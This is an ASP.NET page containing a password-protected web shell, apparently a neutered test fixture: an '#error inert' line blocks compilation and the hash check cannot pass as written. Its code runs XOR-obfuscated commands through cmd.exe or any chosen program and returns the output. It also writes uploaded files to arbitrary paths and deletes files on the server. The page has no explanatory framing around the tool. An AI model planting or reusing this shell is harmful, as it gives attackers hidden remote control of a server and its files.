<%@ Page Language="C#" ValidateRequest="false" %>
<script runat="server">
#error inert
string salt = "fixture"; string want = "0000";
string Sha(string v) { return Convert.ToBase64String(new System.Security.Cryptography.SHA1Managed().ComputeHash(System.Text.Encoding.UTF8.GetBytes(v + salt))); }
string Dec(string v, string k) { byte[] b = Convert.FromBase64String(v); for (int i = 0; i < b.Length; i++) { b[i] ^= (byte)k[i % k.Length]; } return System.Text.Encoding.UTF8.GetString(b); }
protected void Page_Load(object sender, EventArgs e)
{
    try {
        string pwd = Request.Cookies["data"] == null ? Request.Form["pwd"] : Request.Cookies["data"].Value;
        if (Sha(pwd) != want) { Response.Redirect("/"); return; }
        string pro = Dec(Request.Form["pro"], pwd), cmd = Dec(Request.Form["cmd"], pwd);
        string upl = Request.Form["upl"], sav = Request.Form["sav"];
        if (!string.IsNullOrEmpty(cmd)) { Response.Write(HttpUtility.HtmlEncode(Run(pro, cmd))); }
        if (!string.IsNullOrEmpty(upl)) { System.IO.File.WriteAllBytes(sav, Convert.FromBase64String(upl)); }
        if (!string.IsNullOrEmpty(Request.Form["del"])) { System.IO.File.Delete(Request.Form["del"]); }
    } catch (Exception ex) { Response.Write(ex.Message); }
}
string Run(string pro, string cmd)
{
    System.Diagnostics.Process n = new System.Diagnostics.Process();
    n.StartInfo.FileName = string.IsNullOrEmpty(pro) ? "cmd.exe" : pro;
    n.StartInfo.RedirectStandardInput = n.StartInfo.RedirectStandardOutput = true;
    n.StartInfo.UseShellExecute = false;
    n.Start();
    n.StandardInput.WriteLine(cmd);
    n.StandardInput.WriteLine("exit");
    return n.StandardOutput.ReadToEnd();
}
</script>
